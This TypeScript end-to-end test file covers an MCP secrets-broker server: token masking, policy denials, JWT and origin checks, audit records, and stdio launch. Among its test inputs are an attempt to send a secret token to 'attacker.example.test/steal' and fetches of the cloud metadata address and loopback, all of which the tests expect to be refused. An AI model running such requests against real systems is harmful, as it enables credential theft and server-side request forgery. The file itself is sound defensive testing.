// MCP end to end: the real `dist/kz server start --mcp` (HTTP on an ephemeral port, and --stdio as a
// child of the SDK's StdioClientTransport), driven by the official MCP SDK client; values from the env
// provider; a real HTTPS upstream trusted through fetch.upstream_ca and reached through a resolve pin.
// Every result is checked for the absence of any real value; the audit log for one record per decision.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { readAuditKey } from "../../src/audit/key.ts";
import { verifyChain } from "../../src/audit/log.ts";
import { KZ, Sandbox } from "../helpers/kz.ts";
import { identityKey, identityToken, ServerProcess, writeIssuer, type IdentityKey } from "../helpers/server.ts";
import { startHttpsUpstream, type HttpsUpstream } from "../servers/https-upstream.ts";

const VALUES = {
  MCP_E2E_API_KEY: "fake-e2e-api-key-0123456789abcdef",
  MCP_E2E_ANY_KEY: "fake-e2e-any-key-fedcba9876543210",
};
const ORIGIN = "https://agent-ui.example.test";

let sandbox: Sandbox;
let key: IdentityKey;
let upstream: HttpsUpstream;
/** allow_private: true — the upstream on 127.0.0.1 is reachable through its pin. */
let open: { server: ServerProcess; bundle: string; dir: string };
/** allow_private: false — the SSRF guard at work. */
let strict: { server: ServerProcess; bundle: string; dir: string };
const clients: Client[] = [];

function bundleText(dir: string, allowPrivate: boolean): string {
  return `${writeIssuer(dir, key)}
providers:
  env: {}
secrets:
  API_KEY: { provider: env, ref: MCP_E2E_API_KEY, hosts: [api.example.test], swap: [header, query] }
  ANY_KEY: { provider: env, ref: MCP_E2E_ANY_KEY, hosts: ["*"] }
fetch:
  upstream_ca: ./upstream-ca.pem
  resolve: { "api.example.test:443": "127.0.0.1:${upstream.port}" }
  allow_private: ${allowPrivate}
  max_response_bytes: 4096
mcp:
  allowed_origins: [${ORIGIN}]
audit: { path: ./audit.jsonl }
policies:
- match: "**"
  rules:
  - cel: "identity.service == 'agent'"
    effect: allow
  - cel: "identity.service == 'support-agent'"
    effect: deny
`;
}

async function startServer(name: string, allowPrivate: boolean) {
  const dir = join(sandbox.dir, name);
  mkdirSync(dir);
  const bundle = join(dir, "bundle.yaml");
  await Bun.write(join(dir, "upstream-ca.pem"), upstream.caPem);
  await Bun.write(bundle, bundleText(dir, allowPrivate));
  const server = await ServerProcess.start(["--bundle", bundle, "--mcp"], { cwd: dir, env: VALUES });
  return { server, bundle, dir };
}

beforeAll(async () => {
  sandbox = new Sandbox();
  key = await identityKey();
  upstream = await startHttpsUpstream({ hostnames: ["api.example.test"] });
  [open, strict] = await Promise.all([startServer("open", true), startServer("strict", false)]);
});

afterAll(async () => {
  await Promise.all(clients.map((c) => c.close()));
  await Promise.all([open?.server.stop(), strict?.server.stop()]);
  upstream?.stop();
  sandbox?.cleanup();
});

const jwt = (service: string, claims: Record<string, unknown> = {}) => identityToken(key, { service, ...claims });

async function connect(server: ServerProcess, token: string): Promise<Client> {
  const client = new Client({ name: "kz-e2e", version: "1.0.0" });
  await client.connect(new StreamableHTTPClientTransport(new URL(`${server.url}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${token}` } } }));
  clients.push(client);
  return client;
}

function expectNoValue(text: string): void {
  for (const value of Object.values(VALUES)) {
    expect(text).not.toContain(value);
    expect(text).not.toContain(Buffer.from(value).toString("base64"));
  }
}

async function call(client: Client, name: string, args: Record<string, unknown> = {}): Promise<any> {
  const result = await client.callTool({ name, arguments: args });
  expectNoValue(JSON.stringify(result));
  return result;
}

describe("Streamable HTTP", () => {
  test("list tools; resolve gives a token, never the value", async () => {
    const client = await connect(open.server, await jwt("agent"));
    expect((await client.listTools()).tools.map((t) => t.name)).toEqual(["list_secrets", "resolve", "fetch", "query", "share"]);
    expect((await call(client, "list_secrets")).structuredContent).toEqual({
      secrets: [
        { name: "API_KEY", hosts: ["api.example.test"] },
        { name: "ANY_KEY", hosts: ["*"] },
      ],
    });
    const resolved = await call(client, "resolve", { name: "API_KEY" });
    expect(resolved.structuredContent).toEqual({ name: "API_KEY", token: expect.stringMatching(/^KZ_TOK_/), hosts: ["api.example.test"] });
  });

  test("fetch reaches the upstream with the real credential; its echo comes back masked", async () => {
    const client = await connect(open.server, await jwt("agent"));
    const before = upstream.requests.length;
    const result = await call(client, "fetch", { url: "https://api.example.test/echo", secret: "API_KEY" });
    expect(result.isError).toBeUndefined();
    expect(upstream.requests[before]!.headers.authorization).toBe(`Bearer ${VALUES.MCP_E2E_API_KEY}`);
    expect(result.structuredContent.status).toBe(200);
    expect(JSON.parse(result.structuredContent.body).headers.authorization).toMatch(/^Bearer KZ_TOK_/);
  });

  test("a token toward a host its secret is not bound to is refused, and nothing is sent", async () => {
    const client = await connect(open.server, await jwt("agent"));
    const { token } = (await call(client, "resolve", { name: "API_KEY" })).structuredContent;
    const before = upstream.requests.length;
    const result = await call(client, "fetch", { url: "https://attacker.example.test/steal", headers: { "X-Key": token } });
    expect(result.isError).toBe(true);
    expect(result.content[0].text).toContain("API_KEY may only be sent to api.example.test");
    expect(upstream.requests.length).toBe(before);
    // Refused before any policy ran, and recorded as a deny for that host.
    const records = readFileSync(join(open.dir, "audit.jsonl"), "utf8").trim().split("\n").map((l) => JSON.parse(l));
    expect(records.at(-1)).toMatchObject({ secret: "API_KEY", action: "fetch", host: "attacker.example.test", effect: "deny", policy: null });
    expect(records.at(-1).reason).toContain("may only be sent to api.example.test");
  });

  test("fetch.max_response_bytes in the bundle cuts a long body, with a note", async () => {
    const client = await connect(open.server, await jwt("agent"));
    const result = await call(client, "fetch", { url: "https://api.example.test/download?bytes=100000", secret: "API_KEY" });
    expect(result.structuredContent).toMatchObject({ status: 200, truncated: true });
    expect(result.structuredContent.note).toContain("4096");
  });

  test("a denied identity gets tool errors, not tokens or responses", async () => {
    const client = await connect(open.server, await jwt("support-agent"));
    expect((await call(client, "list_secrets")).structuredContent).toEqual({ secrets: [] });
    const resolved = await call(client, "resolve", { name: "API_KEY" });
    expect(resolved.isError).toBe(true);
    expect(resolved.content[0].text).toContain("not allowed");
    const fetched = await call(client, "fetch", { url: "https://api.example.test/echo", secret: "API_KEY" });
    expect(fetched.isError).toBe(true);
    expect(fetched.content[0].text).toContain("denied by policy");
  });

  test("missing, bad and expired JWTs get 401 with the resource-metadata challenge", async () => {
    const challenge = `Bearer resource_metadata="${open.server.url}/.well-known/oauth-protected-resource/mcp"`;
    const ping = (headers: Record<string, string>) =>
      fetch(`${open.server.url}/mcp`, { method: "POST", headers: { "Content-Type": "application/json", ...headers }, body: '{"jsonrpc":"2.0","id":1,"method":"ping"}' });
    const missing = await ping({});
    expect(missing.status).toBe(401);
    expect(missing.headers.get("www-authenticate")).toBe(challenge);
    const bad = await ping({ Authorization: "Bearer x.y.z" });
    expect(bad.status).toBe(401);
    expect(bad.headers.get("www-authenticate")).toStartWith(`${challenge}, error="invalid_token"`);
    const now = Math.floor(Date.now() / 1000);
    const expired = await ping({ Authorization: `Bearer ${await jwt("agent", { iat: now - 900, exp: now - 600 })}` });
    expect(expired.status).toBe(401);
    expect(expired.headers.get("www-authenticate")).toContain("expired");
    const metadata = await fetch(`${open.server.url}/.well-known/oauth-protected-resource/mcp`);
    expect(await metadata.json()).toMatchObject({ resource: `${open.server.url}/mcp`, authorization_servers: ["https://idp.example.test"] });
  });

  test("a foreign Origin is 403; the listed one is answered with CORS for itself only", async () => {
    const token = await jwt("agent");
    const post = (origin: string) =>
      fetch(`${open.server.url}/mcp`, {
        method: "POST",
        headers: { "Content-Type": "application/json", Authorization: `Bearer ${token}`, Origin: origin },
        body: '{"jsonrpc":"2.0","id":1,"method":"ping"}',
      });
    expect((await post("https://evil.example.test")).status).toBe(403);
    const ok = await post(ORIGIN);
    expect(ok.status).toBe(200);
    expect(ok.headers.get("access-control-allow-origin")).toBe(ORIGIN);
  });

  test("with allow_private: false, the metadata address, loopback and a pin to loopback are refused", async () => {
    const client = await connect(strict.server, await jwt("agent"));
    const before = upstream.requests.length;
    for (const [args, reason] of [
      [{ url: "https://169.254.169.254/latest/meta-data/iam/", secret: "ANY_KEY" }, "cloud metadata address"],
      [{ url: `https://127.0.0.1:${upstream.port}/echo`, secret: "ANY_KEY" }, "loopback"],
      [{ url: "https://api.example.test/echo", secret: "API_KEY" }, "127.0.0.1 is a loopback address"],
    ] as const) {
      const result = await call(client, "fetch", args);
      expect(result.isError).toBe(true);
      expect(result.content[0].text).toContain(reason);
    }
    expect(upstream.requests.length).toBe(before);
  });

  test("each call left an audit record — with the fetch's host, method and path — and none holds a value", async () => {
    const client = await connect(open.server, await jwt("agent", { sub: "audit-e2e" }));
    await call(client, "resolve", { name: "ANY_KEY" });
    await call(client, "fetch", { url: "https://api.example.test/echo?page=2", method: "PATCH", secret: "API_KEY", headers: { "Content-Type": "application/json" }, body: "{}" });
    const text = readFileSync(join(open.dir, "audit.jsonl"), "utf8");
    expectNoValue(text);
    expect(verifyChain(text, { key: readAuditKey(join(open.dir, "audit.key")) })).toBeUndefined();
    const mine = text
      .split("\n")
      .filter(Boolean)
      .map((l) => JSON.parse(l))
      .filter((r) => JSON.stringify(r).includes("audit-e2e"));
    expect(mine).toHaveLength(2);
    expect(JSON.stringify(mine[0])).toContain('"resolve"');
    const fetchRecord = JSON.stringify(mine[1]);
    for (const part of ['"fetch"', '"api.example.test"', '"PATCH"', '"/echo"', '"allow"']) expect(fetchRecord).toContain(part);
  });
});

describe("stdio", () => {
  test("the SDK's StdioClientTransport runs `kz server start --mcp --stdio` with KZ_IDENTITY_TOKEN", async () => {
    const transport = new StdioClientTransport({
      command: KZ,
      args: ["server", "start", "--bundle", open.bundle, "--mcp", "--stdio"],
      cwd: open.dir,
      env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: open.dir, KZ_IDENTITY_TOKEN: await jwt("agent", { sub: "stdio-e2e" }), ...VALUES },
      stderr: "pipe",
    });
    const client = new Client({ name: "kz-e2e-stdio", version: "1.0.0" });
    try {
      await client.connect(transport);
      expect((await client.listTools()).tools.map((t) => t.name)).toEqual(["list_secrets", "resolve", "fetch", "query"]);
      const { token } = (await call(client, "resolve", { name: "API_KEY" })).structuredContent;
      const before = upstream.requests.length;
      const result = await call(client, "fetch", { url: `https://api.example.test/echo?key=${token}` });
      expect(result.isError).toBeUndefined();
      expect(upstream.requests[before]!.path).toBe(`/echo?key=${VALUES.MCP_E2E_API_KEY}`);
    } finally {
      await client.close();
    }
  });

  test("a rejected identity token stops the process with one line on stderr and nothing on stdout", async () => {
    const proc = Bun.spawn([KZ, "server", "start", "--bundle", open.bundle, "--mcp", "--stdio"], {
      cwd: open.dir,
      env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: open.dir, KZ_IDENTITY_TOKEN: "x.y.z" },
      stdin: "pipe",
      stdout: "pipe",
      stderr: "pipe",
    });
    const [code, out, err] = await Promise.all([proc.exited, new Response(proc.stdout).text(), new Response(proc.stderr).text()]);
    expect(code).not.toBe(0);
    expect(out).toBe("");
    expect(err).toContain("identity token rejected");
  });
});
